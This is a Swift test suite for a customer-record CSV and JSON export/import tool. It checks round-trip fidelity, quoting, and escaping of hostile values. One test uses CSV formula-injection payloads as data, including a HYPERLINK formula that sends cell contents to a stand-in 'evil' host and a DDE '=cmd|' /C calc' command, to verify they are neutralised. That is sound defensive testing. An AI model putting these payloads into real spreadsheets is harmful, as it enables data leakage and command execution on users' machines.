import Foundation
import LocalStore
import Testing
@testable import ConsoleCLI
@testable import WolkvoxAPI

/// `:export` and `find --csv` write what `wvconsole import` reads back.
@Suite struct ExportRoundTripTests {
    static let hard: [CustomerRecord] = [
        CustomerRecord(
            customerName: "María, José", customerLastName: "Peñaloza \"la Jefa\" Ñúñez", customerID: "CC1001",
            opts: ["saldo: 1,500", "línea 1\nlínea 2", "CRLF\r\nhere", "山田 太郎", "🌻 Gonçalves", " spaced ", "\u{1B}[31mRED", "a\u{7}bell", "", "", "", "last"],
            tel1: "3001234567", tel2: "6014445566", date: "2026-11-21 14:05:00", calls: "2", connID: "c1", result: "no-answer", campaignID: "101"),
        CustomerRecord(customerName: "山田", customerLastName: "太郎", customerID: "JP-77", tel1: "3009990000", campaignID: "101"),
    ]

    /// Every field an import takes comes back byte for byte (commas, quotes,
    /// newlines, CJK, emoji; control characters as data); the read-only
    /// columns an export adds are accepted and not sent.
    @Test(arguments: [false, true]) func anExportIsReadBackIdenticallyByImport(bom: Bool) throws {
        let data = RecordsCSV.data(Self.hard, bom: bom)
        #expect(data.starts(with: [0xEF, 0xBB, 0xBF]) == bom)
        let table = try CSVTable.parse(String(decoding: data, as: UTF8.self), name: "export.csv")
        #expect(table.header == RecordsCSV.header)
        let loaded = try RecordCSV.load(table)
        #expect(loaded.problems.isEmpty, "\(loaded.problems)")
        try #require(loaded.records.count == Self.hard.count)
        for (r, back) in zip(Self.hard, loaded.records) {
            #expect(back["customer_id"] == r.customerID && back["customer_name"] == r.customerName && back["customer_last_name"] == r.customerLastName)
            #expect(back["tel1"] == r.tel1 && back["tel2"] == r.tel2 && back["tel3"] == r.tel3)
            for i in 0..<12 {
                // Import trims the spaces around a value, as it always has.
                #expect(back["opt\(i + 1)"] == r.opts[i].trimmingCharacters(in: .whitespaces), "opt\(i + 1)")
            }
            for column in RecordsCSV.readOnlyColumns { #expect(back.fields[column] == nil, "\(column) is not sent") }
        }
    }

    /// Cells a spreadsheet would run are written with a leading ' (OWASP),
    /// and import reads them back exactly; --raw-csv / export_raw writes them as they came.
    @Test func formulaCellsAreNeutralisedAndReadBackExactly() throws {
        let values = ["=HYPERLINK(\"http://evil/\"&A1,\"x\")", "+573001234567", "-1", "@SUM(A1)", "\tTAB", "'quoted", "''twice", "'=kept", "plain", "O'Brien"]
        var opts = values + [String](repeating: "", count: 12 - values.count)
        opts = Array(opts.prefix(12))
        let hostile = CustomerRecord(customerName: "=cmd|' /C calc'!A0", customerID: "F-1", opts: opts, tel1: "3001234567", campaignID: "101")
        let text = String(decoding: RecordsCSV.data([hostile], bom: false), as: UTF8.self)
        #expect(text.contains("'=cmd|' /C calc'!A0") && text.contains("'+573001234567") && text.contains("'@SUM(A1)"), "\(text)")
        for line in text.split(separator: "\r\n").dropFirst() {
            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
                let c = cell.hasPrefix("\"") ? cell.dropFirst() : cell[...]
                #expect(!(c.first.map { "=+-@\t\r".contains($0) } ?? false), "a cell a spreadsheet would run: \(cell)")
            }
        }
        let back = try RecordCSV.load(try CSVTable.parse(text, name: "x.csv")).records[0]
        #expect(back["customer_name"] == hostile.customerName)
        for i in 0..<values.count where !values[i].hasPrefix("\t") {
            #expect(back["opt\(i + 1)"] == values[i], "opt\(i + 1): \(back["opt\(i + 1)"])")
        }
        let raw = String(decoding: RecordsCSV.data([hostile], bom: false, raw: true), as: UTF8.self)
        #expect(raw.contains(",=cmd|' /C calc'!A0,") || raw.contains("F-1,=cmd|"), "\(raw)")
        #expect(SpreadsheetSafety.restore(SpreadsheetSafety.neutralise("'=x")) == "'=x")
    }

    @Test func quotingFollowsRFC4180AndOnlyWhereNeeded() {
        var out: [UInt8] = []
        RecordsCSV.line(["plain", "a,b", "say \"hi\"", "two\nlines", " lead", "trail ", "山田", "\u{1B}"], into: &out)
        #expect(String(decoding: out, as: UTF8.self) == "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\" lead\",\"trail \",山田,\u{1B}\r\n")
    }
}

@Suite struct StatsJSONTests {
    /// The stats object goes through the same terminal-safety escape as the
    /// rest of `--json`: a result value with a bidi override is escaped, not raw.
    @Test func aHostileResultValueIsEscapedInTheStatsObject() throws {
        let r = CustomerRecord(customerID: "X-1", tel1: "3001234567", result: "busy\u{202E}evil", campaignID: "101")
        let answer = FindAnswer(query: FindQuery(phone: "3001234567"), records: [r], message: "")
        var w = JSONWriter(capacity: 4096)
        JSONOutput.writeFind(answer, stats: Breakdown([r], now: Date(), timeZone: .current), into: &w)
        let text = String(decoding: w.bytes, as: UTF8.self)
        #expect(text.contains(#""stats":{"#) && (text.contains(#"\u202e"#) || text.contains(#"\u202E"#)), "\(text)")
        #expect(!text.unicodeScalars.contains { $0.value == 0x202E }, "no raw bidi override anywhere in the document")
        _ = try JSONSerialization.jsonObject(with: Data(w.bytes))
    }
}
